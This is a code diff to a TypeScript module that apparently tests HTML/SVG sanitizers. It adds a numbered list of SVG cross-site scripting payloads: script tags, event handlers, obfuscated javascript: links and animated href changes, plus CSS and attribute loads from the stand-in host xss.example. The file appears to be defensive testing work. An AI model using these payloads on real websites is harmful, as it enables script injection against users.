@@ -754,6 +754,60 @@ export const payloads: Payload[] = classes
   .flatMap((name) => (written[name].payloads as Written[]).map((payload) => ({ class: name, payload })))
   .map(({ class: name, payload }, index) => ({ number: index + 1, class: name, text: numbered(payload, index + 1) }));
 
+/** Drawings as files, each with a call that has its number. What is in them is well-formed, as it is looked at no further else. */
+export const drawings: string[] = [
+  "<script>xss(N)</script>",
+  "<script><![CDATA[xss(N)]]></script>",
+  "<script href='data:text/javascript,xss(N)'/>",
+  "<script xlink:href='data:,xss(N)'/>",
+  "<g><s:script xmlns:s='http://www.w3.org/2000/svg'>xss(N)</s:script></g>",
+  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss(N)</x:script>",
+  "<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x:' onerror='xss(N)'/>",
+  "<x:iframe xmlns:x='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>parent.xss(N)&lt;/script>'/>",
+  "<x:body xmlns:x='http://www.w3.org/1999/xhtml' onload='xss(N)'/>",
+  "<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='stylesheet' href='//xss.example/N'/>",
+  "<x:object xmlns:x='http://www.w3.org/1999/xhtml' data='//xss.example/N'/>",
+  "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x:' onerror='xss(N)'/></foreignObject>",
+  "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:parent.xss(N)'/></foreignObject>",
+  "<g onload='xss(N)'/>",
+  "<rect onfocus='xss(N)' tabindex='0' width='9' height='9'/>",
+  "<rect onclick='xss(N)' width='9' height='9'/>",
+  "<image href='x:' onerror='xss(N)' width='9' height='9'/>",
+  "<image href='//xss.example/N' width='9' height='9'/>",
+  "<image xlink:href='https://xss.example/N' width='9' height='9'/>",
+  "<feImage href='//xss.example/N'/>",
+  "<use href='//xss.example/N#a'/>",
+  "<use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;image href='x:' onerror='xss(N)'/>&lt;/svg>#x\"/>",
+  "<a href='javascript:xss(N)'><rect width='9' height='9'/></a>",
+  "<a xlink:href='java&#10;script:xss(N)'><rect width='9' height='9'/></a>",
+  "<a xmlns:y='http://www.w3.org/1999/xlink' y:href='&#1569;javascript:xss(N)'><rect width='9' height='9'/></a>",
+  "<a><animate attributeName='href' values='javascript:xss(N)'/><rect width='9' height='9'/></a>",
+  "<a><set attributeName='xlink:href' to='javascript:xss(N)'/><rect width='9' height='9'/></a>",
+  "<animate onbegin='xss(N)' attributeName='x' dur='1s'/>",
+  "<set attributeName='onload' to='xss(N)'/>",
+  "<set onend='xss(N)' attributeName='x' to='1' dur='1ms'/>",
+  "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>xss(N)</handler>",
+  "<style>@import '//xss.example/N';</style>",
+  "<style>@imp\\6f rt '//xss.example/N';</style>",
+  "<style>svg{background:url(//xss.example/N)}</style>",
+  "<style>svg{background:image-set('//xss.example/N' 1x)}</style>",
+  "<style>svg{background:-webkit-image-set('https://xss.example/N' 1x)}</style>",
+  "<style><![CDATA[svg{background:u\\72l(//xss.example/N)}]]></style>",
+  "<style>@font-face{font-family:a;src:url(//xss.example/N)}text{font-family:a}</style><text y='9'>x</text>",
+  "<style>@namespace x url(//xss.example/);</style><g style='background-image:image-set(&quot;//xss.example/N&quot; 1x)'/>",
+  "<g style='fill:url(&quot;//xss.example/N#a&quot;)'><rect width='9' height='9'/></g>",
+  "<rect fill='url(//xss.example/N#a)' width='9' height='9'/>",
+  "<rect filter='url(https://xss.example/N#a)' width='9' height='9'/>",
+  "<g cursor='url(//xss.example/N),auto'><rect width='9' height='9'/></g>",
+  "<metadata><x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss(N)</x:script></metadata>",
+  "<title><x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x:' onerror='xss(N)'/></title>",
+  "<text y='9'>&lt;script>xss(N)&lt;/script></text>",
+  "<desc>&lt;img src=x onerror=xss(N)&gt;</desc><rect width='9' height='9'/>",
+].map((inside, index) => {
+  const text = inside.replace(/(?<![A-Za-z])N(?![A-Za-z])/g, String(index + 1));
+  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" width="9" height="9">${text}</svg>`;
+});
+
 /** A page without any care, with a payload in it. */
 export function carelessPage(payload: Payload): string {
   return `<!DOCTYPE html>${written[payload.class].careless(payload.text)}`;
